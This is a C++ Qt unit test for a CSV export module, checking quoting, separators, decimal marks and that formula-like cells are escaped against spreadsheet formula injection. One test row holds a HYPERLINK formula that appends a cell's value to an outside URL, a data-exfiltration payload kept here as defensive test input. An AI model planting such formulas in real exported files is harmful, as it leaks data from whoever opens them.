#include "lang/DLanguage.h"
#include "model/DCsv.h"
#include "tests/TestSupport.h"

Q_DECLARE_METATYPE(DCsv::Options)

class TestDCsv : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void cells_data();
    void cells();
    void options_data();
    void options();
    void numbers_data();
    void numbers();
    void spreadsheetDefaults();
};

void TestDCsv::cells_data()
{
    QTest::addColumn<QString>("cell");
    QTest::addColumn<QByteArray>("bytes");
    // Texts a spreadsheet would run as a formula: a leading ' and always quoted.
    QTest::newRow("sum") << "=1+1" << QByteArray("\"'=1+1\"");
    QTest::newRow("link that sends a cell") << "=HYPERLINK(\"http://x/?\"&B3,\"Click\")"
                                            << QByteArray("\"'=HYPERLINK(\"\"http://x/?\"\"&B3,\"\"Click\"\")\"");
    QTest::newRow("plus") << "+x" << QByteArray("\"'+x\"");
    QTest::newRow("minus") << "-x" << QByteArray("\"'-x\"");
    QTest::newRow("minus alone") << "-" << QByteArray("\"'-\"");
    QTest::newRow("minus and a number in text") << "-2+3" << QByteArray("\"'-2+3\"");
    QTest::newRow("at") << "@x" << QByteArray("\"'@x\"");
    QTest::newRow("tab first") << "\tx" << QByteArray("\"'\tx\"");
    QTest::newRow("carriage return first") << "\rx" << QByteArray("\"'\rx\"");
    QTest::newRow("formula with a comma") << "=SUM(A1,A2)" << QByteArray("\"'=SUM(A1,A2)\"");
    // Numbers are data, negative ones included.
    QTest::newRow("number") << "12" << QByteArray("12");
    QTest::newRow("negative number") << "-12" << QByteArray("-12");
    QTest::newRow("negative decimal") << "-0.250" << QByteArray("-0.250");
    // Everything else as it always was: quoted only when it would split.
    QTest::newRow("plain") << "Rossi" << QByteArray("Rossi");
    QTest::newRow("empty") << "" << QByteArray("");
    QTest::newRow("formula sign later") << "Rossi=1" << QByteArray("Rossi=1");
    QTest::newRow("leading blank") << " =1" << QByteArray(" =1");
    QTest::newRow("comma") << "Rossi, Jr." << QByteArray("\"Rossi, Jr.\"");
    QTest::newRow("quote") << "O\"Neil" << QByteArray("\"O\"\"Neil\"");
    QTest::newRow("line feed") << "Ro\nssi" << QByteArray("\"Ro\nssi\"");
    QTest::newRow("apostrophe first") << "'Ndrangheta" << QByteArray("'Ndrangheta");
    QTest::newRow("accented") << QString::fromUtf8("Niccolò") << QByteArray("Niccol\xc3\xb2");
    QTest::newRow("cyrillic") << QString::fromUtf8("Ж") << QByteArray("\xd0\x96");
}

void TestDCsv::cells()
{
    QFETCH(QString, cell);
    QFETCH(QByteArray, bytes);
    // A line of its own and a line among others: no byte-order mark, UTF-8,
    // every line ended by CR LF.
    QCOMPARE(DCsv::Bytes({DCsv::Line({cell})}), bytes + "\r\n");
    QCOMPARE(DCsv::Bytes({DCsv::Line({QStringLiteral("1"), cell, QStringLiteral("0.500")}), QStringLiteral("end")}),
             "1," + bytes + ",0.500\r\nend\r\n");
    // A copied table: a formula is kept from running as in a file; every
    // other cell is copied as it is.
    const QString copied = bytes.startsWith("\"'") ? QString::fromUtf8(bytes) : cell;
    QCOMPARE(DCsv::ClipboardLine({QStringLiteral("1"), cell, QStringLiteral("-0.500")}),
             QStringLiteral("1\t") + copied + QStringLiteral("\t-0.500"));
}

using Separator = DCsv::Options::Separator;
using Decimal = DCsv::Options::Decimal;

DCsv::Options MakeOptions(Separator separator, Decimal decimal, bool mark)
{
    DCsv::Options options;
    options.separator = separator;
    options.decimal = decimal;
    options.byteOrderMark = mark;
    return options;
}

// Whole files under every separator: quoted exactly where a cell would split
// under that separator, formulas kept from running under all of them.
void TestDCsv::options_data()
{
    QTest::addColumn<DCsv::Options>("options");
    QTest::addColumn<QStringList>("cells");
    QTest::addColumn<QByteArray>("bytes");
    const QString accented = QString::fromUtf8("Niccolò");
    const QStringList names{QStringLiteral("Rossi, Jr."), QStringLiteral("a;b"),         QStringLiteral("O\"Neil"),
                            QStringLiteral("Ro\nssi"),    QStringLiteral("=SUM(A1;A2)"), QStringLiteral("x\ty")};
    QTest::newRow("comma") << MakeOptions(Separator::Comma, Decimal::Point, false) << names
                           << QByteArray("\"Rossi, Jr.\",a;b,\"O\"\"Neil\",\"Ro\nssi\",\"'=SUM(A1;A2)\",x\ty\r\n");
    QTest::newRow("semicolon") << MakeOptions(Separator::Semicolon, Decimal::Comma, false) << names
                               << QByteArray("Rossi, Jr.;\"a;b\";\"O\"\"Neil\";\"Ro\nssi\";\"'=SUM(A1;A2)\";x\ty\r\n");
    QTest::newRow("tab") << MakeOptions(Separator::Tab, Decimal::Point, false) << names
                         << QByteArray("Rossi, Jr.\ta;b\t\"O\"\"Neil\"\t\"Ro\nssi\"\t\"'=SUM(A1;A2)\"\t\"x\ty\"\r\n");
    // A negative number with the file's decimal mark is data; with the other
    // mark it is text that would run as a formula, as it always was.
    const QStringList negative{QStringLiteral("-0,25"), QStringLiteral("-0.25")};
    QTest::newRow("decimal comma, semicolon")
        << MakeOptions(Separator::Semicolon, Decimal::Comma, false) << negative << QByteArray("-0,25;\"'-0.25\"\r\n");
    QTest::newRow("decimal comma, comma")
        << MakeOptions(Separator::Comma, Decimal::Comma, false) << negative << QByteArray("\"-0,25\",\"'-0.25\"\r\n");
    QTest::newRow("decimal point") << DCsv::Options{} << negative << QByteArray("\"'-0,25\",-0.25\r\n");
    QTest::newRow("mark") << MakeOptions(Separator::Semicolon, Decimal::Comma, true) << QStringList{accented, "1"}
                          << QByteArray("\xEF\xBB\xBFNiccol\xc3\xb2;1\r\n");
    QTest::newRow("no mark") << DCsv::Options{} << QStringList{accented, "1"} << QByteArray("Niccol\xc3\xb2,1\r\n");
}

void TestDCsv::options()
{
    QFETCH(DCsv::Options, options);
    QFETCH(QStringList, cells);
    QFETCH(QByteArray, bytes);
    QCOMPARE(DCsv::Bytes({DCsv::Line(cells, options)}, options), bytes);
}

void TestDCsv::numbers_data()
{
    QTest::addColumn<double>("value");
    QTest::addColumn<int>("decimals");
    QTest::addColumn<int>("decimal");
    QTest::addColumn<QString>("text");
    QTest::newRow("point") << 0.5 << 3 << int(Decimal::Point) << "0.500";
    QTest::newRow("comma") << 0.5 << 3 << int(Decimal::Comma) << "0,500";
    QTest::newRow("negative, comma") << -1.256 << 2 << int(Decimal::Comma) << "-1,26";
    QTest::newRow("no grouping") << 12345.5 << 2 << int(Decimal::Comma) << "12345,50";
    QTest::newRow("rounds to zero") << -0.004 << 2 << int(Decimal::Point) << "0.00";
    QTest::newRow("negative zero, comma") << -0.0 << 3 << int(Decimal::Comma) << "0,000";
}

void TestDCsv::numbers()
{
    QFETCH(double, value);
    QFETCH(int, decimals);
    QFETCH(int, decimal);
    QFETCH(QString, text);
    QCOMPARE(DCsv::Number(value, decimals, MakeOptions(Separator::Comma, Decimal(decimal), false)), text);
}

void TestDCsv::spreadsheetDefaults()
{
    QCOMPARE(DCsv::Options::ForSpreadsheet(DLanguage::Italian),
             MakeOptions(Separator::Semicolon, Decimal::Comma, true));
    QCOMPARE(DCsv::Options::ForSpreadsheet(DLanguage::English), MakeOptions(Separator::Comma, Decimal::Point, true));
}

KC_TEST_MAIN(TestDCsv)
#include "test_DCsv.moc"
